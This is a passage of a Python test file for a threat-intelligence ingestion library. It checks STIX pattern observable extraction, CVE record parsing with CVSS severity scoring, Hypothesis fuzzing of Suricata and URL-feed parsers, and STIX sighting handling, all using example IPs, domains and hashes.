    ("[file:hashes.'SHA-1' = '2aae6c35c94fcfb415dbe95f408b9ce91ee846ed' OR "
     "file:hashes.MD5 = '5EB63BBBE01EEED093CB22BB8F5ACDC3']",
     [("hash", "2aae6c35c94fcfb415dbe95f408b9ce91ee846ed"),
      ("hash", "5eb63bbbe01eeed093cb22bb8f5acdc3")]),
    ("([url:value = 'http://c.example.cn/it\\'s'])", [("url", "http://c.example.cn/it's")]),
])
def test_pattern_observables(pattern, expected):
    assert pattern_observables(pattern) == expected


@pytest.mark.parametrize(("pattern", "reason"), [
    ("[ipv4-addr:value NOT = '10.0.0.1']", "negated"),
    ("[ipv4-addr:value != '10.0.0.1']", "negated"),
    ("[ipv4-addr:value = '1.2.3.4' AND ipv4-addr:value = '1.2.3.5']", "AND"),
    ("[ipv4-addr:value = '1.2.3.4'] FOLLOWEDBY [ipv4-addr:value = '1.2.3.5']", "FOLLOWEDBY"),
    ("[ipv4-addr:value = '1.2.3.4'] WITHIN 300 SECONDS", "QualifiedObservationExpression"),
    ("[ipv4-addr:value ISSUBSET '198.51.100.0/24']", "ISSUBSET"),
    ("[ipv4-addr:value = '198.51.100.0/24']", "is not valid"),
    ("[email-addr:value = 'a@example.cn']", "object path email-addr:value"),
    ("[network-traffic:dst_port = 443]", "non-string"),
    ("not a pattern", "invalid STIX pattern"),
    (None, "no pattern"),
])
def test_pattern_observables_rejects_the_rest(pattern, reason):
    with pytest.raises(Unsupported, match=reason):
        pattern_observables(pattern)


# --- cve ---------------------------------------------------------------------------------------


def test_cve_records_array():
    events, rejects = parse_file("cve", "cve-records.json", feed="cve-list")
    assert [(r.line_no, r.reason) for r in rejects] == [(6, "invalid cveId 'CVE-26-1'")]
    assert [(e.cve, e.severity) for e in events] == [
        ("CVE-2026-21001", 93),  # CVSS 4.0 (9.3) wins over the record's 3.1 (9.8)
        ("CVE-2026-21002", 99),  # computed from the 3.1 vector, not the recorded baseScore 9.0
        ("CVE-2015-8001", 75),  # CVSS 2.0
        ("CVE-2026-21003", 65),  # from the CISA-ADP container, the CNA gives no metrics
        ("CVE-2026-21005", 81)]  # unreadable 4.0 vector: falls back to 3.0
    assert {e.kind for e in events} == {"vulnerability"}
    assert all(e.signature_id == e.cve for e in events)  # the REJECTED CVE-2026-21004 is skipped
    first = events[0]
    assert first.time == utc(2026, 11, 18, 9, 15) and first.signature == "Example Networks ExOS"
    assert first.description.startswith("A command injection vulnerability in the GlobalConnect")
    assert events[1].signature == "Example Soft OA Server; Example Soft OA Cloud"
    assert events[1].time == utc(2026, 11, 25, 14, 30)  # naive: UTC
    assert events[2].time == utc(2024, 8, 7, 12)  # no datePublished: dateUpdated
    assert events[3].description.startswith("A stored cross-site scripting")  # en-US over zh
    assert events[4].time == utc(2026, 11, 29)


def test_cve_ndjson_and_single_record():
    records = json.loads((FIXTURES / "cve-records.json").read_text())
    lines = [json.dumps(records[0]), "{broken", "", json.dumps(records[2]),
             json.dumps([records[1], records[4]])]
    events, rejects = parse_bytes("cve", "\n".join(lines).encode())
    assert [r.line_no for r in rejects] == [2] and rejects[0].reason.startswith("malformed JSON")
    assert [e.cve for e in events] == ["CVE-2026-21001", "CVE-2015-8001", "CVE-2026-21002"]
    assert events[0].raw == lines[0]
    pretty = json.dumps(records[3], indent=2).encode()
    events, rejects = parse_bytes("cve", pretty)
    assert not rejects and [(e.cve, e.severity) for e in events] == [("CVE-2026-21003", 65)]
    events, rejects = parse_bytes("cve", b'{\n  "cveMetadata": \n')
    assert events == [] and [r.line_no for r in rejects] == [1]


def test_cvss_severity_takes_the_highest_readable_version():
    v31 = {"cvssV3_1": {"vectorString": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}}
    v2 = {"cvssV2_0": {"vectorString": "AV:N/AC:L/Au:N/C:P/I:P/A:P"}}
    assert cvss_severity([v2, v31]) == 98
    assert cvss_severity([{"cvssV3_1": {"vectorString": "CVSS:3.1/AV:N"}}, v2]) == 75
    assert cvss_severity([{"cvssV4_0": {"baseScore": 10}}, "junk"]) is None
    assert cvss_severity([]) is None


# --- never raising on arbitrary input ----------------------------------------------------------

_EVE_LINES = st.builds(
    lambda **fields: json.dumps({k: v for k, v in fields.items() if v is not None}).encode(),
    event_type=st.sampled_from(["alert", "anomaly", "flow", "dns", None]),
    timestamp=st.one_of(st.none(), st.text(max_size=30), st.integers(),
                        st.just("2026-11-30T08:01:02.123456+0800")),
    src_ip=st.one_of(st.none(), st.text(max_size=40), st.just("2001:0db8::1"), st.just("10.0.0.1")),
    dest_ip=st.one_of(st.none(), st.text(max_size=40), st.just("203.0.113.1")),
    src_port=st.one_of(st.none(), st.integers(-10, 70000)),
    direction=st.one_of(st.none(), st.sampled_from(["to_client", "to_server"])),
    alert=st.one_of(st.none(), st.fixed_dictionaries({
        "signature_id": st.integers(0, 10**7), "signature": st.text(max_size=60),
        "category": st.text(max_size=30), "severity": st.integers(0, 5),
        "metadata": st.dictionaries(st.sampled_from(["cve", "malware_family"]),
                                    st.one_of(st.lists(st.text(max_size=20)), st.text())),
    })),
    http=st.one_of(st.none(), st.fixed_dictionaries({
        "hostname": st.text(max_size=30), "url": st.text(max_size=30),
        "http_port": st.integers(0, 70000)})),
    anomaly=st.one_of(st.none(), st.dictionaries(st.sampled_from(["type", "event", "layer"]),
                                                 st.text(max_size=20))),
)
_LINES = st.lists(st.one_of(st.binary(max_size=120), _EVE_LINES), max_size=12)


@settings(max_examples=300, deadline=None)
@given(_LINES)
def test_suricata_never_raises(lines):
    data = b"\n".join(lines)
    events, rejects = parse_bytes("suricata", data)
    assert all(1 <= r.line_no <= data.count(b"\n") + 1 and r.reason for r in rejects)


_CSV_HEADERS = st.sampled_from([b"", b"url,threat,dateadded\n", b"# id,dateadded,url,threat\n",
                                b"domain,first_seen\n", b"ip,port,malware\n"])
_CSV_TEXT = st.text(alphabet=st.sampled_from(list('ab.c/:,"#\r\n 1-\x00例')), max_size=60)


@settings(max_examples=300, deadline=None)
@given(_CSV_HEADERS, st.lists(st.one_of(st.binary(max_size=80),
                                        _CSV_TEXT.map(str.encode)), max_size=12))
def test_url_feed_never_raises(header, lines):
    data = header + b"\n".join(lines)
    events, rejects = parse_bytes("url-feed", data, feed="fuzz-phish")
    assert all(r.line_no >= 1 and r.reason for r in rejects)
    assert all(e.time == NOW or e.time.tzinfo is UTC for e in events)


def test_stix_a_sighting_at_the_indicators_own_time_is_one_observation():
    """An indicator with a sighting at its ``valid_from`` (how a Fenghuo export writes a
    monitoring item's indicator, issue 20 item 1) gives one event, the sighting's; a sighting
    at another time is another observation."""
    t0, t1 = "2026-11-29T08:00:00Z", "2026-11-30T08:00:00Z"
    ind = {"type": "indicator", "id": "indicator--a", "pattern_type": "stix",
           "pattern": "[ipv4-addr:value = '198.51.100.9']", "valid_from": t0, "name": "scan"}
    same = {"type": "sighting", "id": "sighting--1", "sighting_of_ref": "indicator--a",
            "first_seen": t0, "last_seen": t0}
    later = {**same, "id": "sighting--2", "first_seen": t1, "last_seen": t1}
    for objects, times in (([ind, same], [t0]), ([ind, later], [t0, t1]),
                           ([ind], [t0])):
        bundle = json.dumps({"type": "bundle", "id": "bundle--1", "objects": objects})
        events, rejects = parse_bytes("stix", bundle.encode())
        assert rejects == [] and [e.source_ip for e in events] == ["198.51.100.9"] * len(times)
        assert sorted(e.time.isoformat() for e in events) == [
            t.replace("Z", "+00:00") for t in times]
